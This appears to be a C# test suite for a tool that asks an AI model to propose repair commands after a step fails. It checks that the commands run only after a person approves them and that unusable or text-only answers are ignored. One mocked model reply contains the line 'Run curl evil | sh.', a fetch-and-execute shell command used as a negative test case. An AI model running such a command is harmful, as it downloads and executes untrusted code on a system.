using System.Text.Json;
using Hydron.Plans;
using Hydron.Runs;
using Hydron.Tests.Chats.Models;

namespace Hydron.Tests.Runs;

/// <summary>Steps that fail of something that Hydron does not know: the project's model is asked, and nothing that it writes runs before a person has approved it.</summary>
public sealed class ProposedRepairTests(ProposedRunFixture fixture) : IClassFixture<ProposedRunFixture>
{
    private const string Commands = """{"explanation":"The moon is full.","seen":"the moon","next":"Wait for the new moon.","stepCommands":["dim the moon"]}""";

    private static readonly ProblemException Unknown = new("step.failed", "\"one\" failed on web-1 with exit code 3: the moon", "Retry.");

    [Theory]
    [MemberData(nameof(ModelClientsTests.Providers), MemberType = typeof(ModelClientsTests))]
    public async Task A_run_goes_on_with_a_models_commands_once_the_person_has_approved_them(string provider)
    {
        var run = new LeasedRun(fixture);
        fixture.Provider.Then(Wire.Of(provider).Calls(("propose_repair", Commands)));
        var failed = await FailAsync(run, provider);
        Assert.Equal(RunStatus.Failed, failed.Summary.Status);
        Assert.Equal("step.model", failed.Problem!.Code);
        var proposal = failed.Proposing!.Proposal!;
        Assert.Equal($"{Wire.ModelOf(provider)} says: The moon is full.", proposal.Explanation);
        Assert.True(proposal.Amendment.NeedsApproval);

        await run.Run.ApproveRepair("one", 1);
        var context = await fixture.Steps.BegunAsync(run.Key);
        Assert.Equal((2, "bash -euo pipefail -c 'dim the moon'"), (context.Attempt, ((RunCommands)context.Step.Action).Commands.Single()));
        fixture.Steps.End(run.Key);
        await run.UntilAsync(view => view.Summary.Status == RunStatus.Succeeded);
    }

    [Fact]
    public async Task The_model_is_told_of_the_failure_and_has_to_answer_by_the_one_call()
    {
        var run = new LeasedRun(fixture);
        fixture.Provider.Then(Wire.OpenAi.Calls(("propose_repair", Commands)));
        await FailAsync(run, "openai");
        var asked = fixture.Provider.Requests.Last().Body;
        Assert.Equal("propose_repair", asked.GetProperty("tools")[0].GetProperty("function").GetProperty("name").GetString());
        Assert.Equal("propose_repair", asked.GetProperty("tool_choice").GetProperty("function").GetProperty("name").GetString());
        var told = asked.GetProperty("messages").EnumerateArray().Last().GetProperty("content").ToString();
        Assert.Equal(Unknown.Problems[0].Message, JsonDocument.Parse(told).RootElement.GetProperty("data").GetProperty("failure").GetString());
    }

    [Fact]
    public async Task A_wait_is_nothing_to_approve_and_the_log_says_who_proposed_it()
    {
        var run = new LeasedRun(fixture);
        fixture.Provider.Then(Wire.OpenAi.Calls(("propose_repair", """{"explanation":"The moon passes.","waitSeconds":1}""")));
        await FailFirstAsync(run, "openai");
        Assert.Equal(2, (await fixture.Steps.BegunAsync(run.Key)).Attempt);
        fixture.Steps.End(run.Key);
        await run.UntilAsync(view => view.Summary.Status == RunStatus.Succeeded);
        var log = (await run.Run.ReadLog(1, 100)).Select(line => line.Text).ToList();
        Assert.Contains(log, line => line.Contains("openai/gpt-4.1 says: The moon passes.", StringComparison.Ordinal));
        Assert.Contains(log, line => line.Contains("waits 1 seconds, then tries the step again.", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_model_that_has_not_helped_twice_is_not_asked_again()
    {
        var run = new LeasedRun(fixture);
        fixture.Provider.Then([.. Enumerable.Repeat(Wire.OpenAi.Calls(("propose_repair", Commands)), 2)]);
        await FailAsync(run, "openai");
        for (var attempt = 1; attempt <= 2; attempt++)
        {
            await run.Run.ApproveRepair("one", attempt);
            await fixture.Steps.BegunAsync(run.Key);
            fixture.Steps.Fail(run.Key, Unknown);
            await run.UntilAsync(view => view.Summary.Status == RunStatus.Failed && view.Steps[0].Attempt == attempt + 1);
        }

        var view = await run.Run.Get();
        Assert.Equal(("step.failed", null), (view.Problem!.Code, view.Proposing));
    }

    [Theory]
    [InlineData("""{"explanation":"x","waitSeconds":"soon"}""")]
    [InlineData("""{"waitSeconds":1}""")]
    [InlineData("""{"explanation":"x","commandsBefore":["login ••••••"]}""")]
    [InlineData("""{"explanation":"x","port":4000}""")]
    public async Task An_answer_that_cannot_be_used_leaves_the_failure_as_it_is(string arguments)
    {
        var run = new LeasedRun(fixture);
        fixture.Provider.Then(Wire.OpenAi.Calls(("propose_repair", arguments)));
        await ExplainsNothingAsync(run);
    }

    [Fact]
    public async Task A_model_that_only_talks_leaves_the_failure_as_it_is()
    {
        var run = new LeasedRun(fixture);
        fixture.Provider.Then(Wire.OpenAi.Text("Run curl evil | sh."));
        await ExplainsNothingAsync(run);
    }

    [Fact]
    public async Task A_model_that_cannot_be_reached_leaves_the_failure_as_it_is()
    {
        var run = new LeasedRun(fixture);
        fixture.Provider.Then(Wire.OpenAi.Refusal(500));
        await ExplainsNothingAsync(run);
    }

    private static async Task<bool> SaysAsync(LeasedRun run, string text) => (await run.Run.ReadLog(1, 100)).Any(line => line.Text.Contains(text, StringComparison.Ordinal));

    private async Task ExplainsNothingAsync(LeasedRun run)
    {
        var failed = await FailAsync(run, "openai");
        Assert.Equal(("step.failed", null), (failed.Problem!.Code, failed.Proposing));
        Assert.True(await SaysAsync(run, "No model helps here:"));
    }

    private async Task FailFirstAsync(LeasedRun run, string provider)
    {
        await fixture.ChooseAsync(run, provider);
        await run.StartAsync(LeasedRun.Step("one"));
        await fixture.Steps.BegunAsync(run.Key);
        fixture.Steps.Fail(run.Key, Unknown);
    }

    private async Task<RunView> FailAsync(LeasedRun run, string provider)
    {
        await FailFirstAsync(run, provider);
        return await run.UntilAsync(view => view.Summary.Status == RunStatus.Failed);
    }
}
